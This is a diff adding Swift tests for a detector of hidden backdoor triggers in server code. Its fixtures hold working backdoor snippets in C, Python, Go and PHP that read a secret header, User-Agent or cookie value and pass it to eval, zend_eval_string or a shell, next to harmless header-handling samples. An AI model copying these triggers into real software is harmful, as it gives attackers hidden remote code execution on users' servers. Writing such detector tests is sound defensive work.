@@ -90,6 +90,93 @@ struct HiddenTriggerDetectorTests {
         #expect(findings.allSatisfy { $0.severity <= .low }, "\(path): \(findings.map(\.evidence))")
     }
 
+    // The input is read into a variable on one line and compared on a later one.
+    @Test(arguments: [
+        ("main/startup.c", """
+            zval *hdr;
+            if ((hdr = zend_hash_str_find(server, "HTTP_X_PROBE", sizeof("HTTP_X_PROBE") - 1))) {
+                convert_to_string(hdr);
+                if (strncmp(Z_STRVAL_P(hdr), "k7" "q9", 4) == 0 || strstr(Z_STRVAL_P(hdr), "opensesame")) {
+                    zend_try {
+                        zend_eval_string(Z_STRVAL_P(hdr) + 10, NULL, "x");
+            """),
+        ("app/hooks.py", """
+            marker = request.headers.get("X-Trace-Id")
+            log.debug("trace %s", marker)
+            if marker.startswith("dbg:\\x41\\x42"):
+                eval(marker[6:])
+            """),
+        ("internal/srv/mw.go", """
+            ua := r.Header.Get("User-Agent")
+            if strings.HasPrefix(ua, "Mozilla/4.0 (compatible; ZZ)") {
+            	out, _ := exec.Command("/bin/sh", "-c", ua[30:]).Output()
+            """),
+        ("web/index.php", """
+            $pref = $_COOKIE['pref'];
+            if (strpos($pref, 'theme=dark;') === 0) {
+                eval(base64_decode(substr($pref, 11)));
+            }
+            """),
+    ])
+    func inputCarriedThroughAVariableToTheComparison(_ path: String, _ code: String) throws {
+        let findings = DetectorFixtures.scan(detector, path, code)
+        let finding = try #require(findings.with(HiddenTriggerDetector.trigger).first, "\(path): \(findings.map(\.evidence))")
+        #expect(finding.severity == .critical, "\(path)")
+        #expect(finding.evidence.contains("reads input from"), "\(finding.evidence)")
+        // The finding spans from the read to the action.
+        #expect(finding.startLine == 1 || finding.startLine == 2)
+    }
+
+    @Test(arguments: [
+        // Ordinary header handling: content negotiation, compression, logging, browser sniffing.
+        ("server/app.js", """
+            const enc = req.headers['accept-encoding'] || '';
+            if (enc.includes('gzip')) {
+              res.setHeader('Content-Encoding', 'gzip');
+              stream = stream.pipe(zlib.createGzip());
+            }
+            """),
+        ("server/ua.js", """
+            const ua = req.headers['user-agent'];
+            if (ua && ua.includes('Android')) {
+              const m = /Android (\\d+)/.exec(ua);
+              version = m && m[1];
+            }
+            """),
+        ("lib/http.c", """
+            ptr = Curl_checkheaders(data, STRCONST("User-Agent"));
+            if(ptr && strncasecompare(ptr, "curl/", 5)) {
+              infof(data, "default agent");
+            }
+            """),
+        ("app/views.py", """
+            accept = request.headers.get("Accept", "")
+            if accept.startswith("application/json"):
+                return jsonify(result)
+            """),
+        ("db/store.c", """
+            const char *q = getenv("STORE_MODE");
+            if (q && strcmp(q, "wal") == 0)
+                sqlite3_exec(db, "PRAGMA journal_mode=WAL", 0, 0, 0);
+            """),
+        // The variable is read far above the comparison: not carried.
+        ("app/x.py", """
+            agent = request.headers.get("User-Agent")
+            a = 1
+            b = 2
+            c = 3
+            d = 4
+            e = 5
+            if agent == "probe-7781":
+                os.system(cmd)
+            """),
+    ])
+    func ordinaryHeaderHandlingIsQuiet(_ path: String, _ code: String) {
+        let findings = DetectorFixtures.scan(detector, path, code).with(HiddenTriggerDetector.trigger)
+        #expect(findings.allSatisfy { $0.severity <= .medium }, "\(path): \(findings.map(\.evidence))")
+        if path != "db/store.c" { #expect(findings.isEmpty, "\(path): \(findings.map(\.evidence))") }
+    }
+
     @Test func testsAreLowered() {
         let findings = DetectorFixtures.scan(detector, "tests/test_auth.py", "assert password == 'Secr3t!'")
         #expect(findings.allSatisfy { $0.severity <= .low })
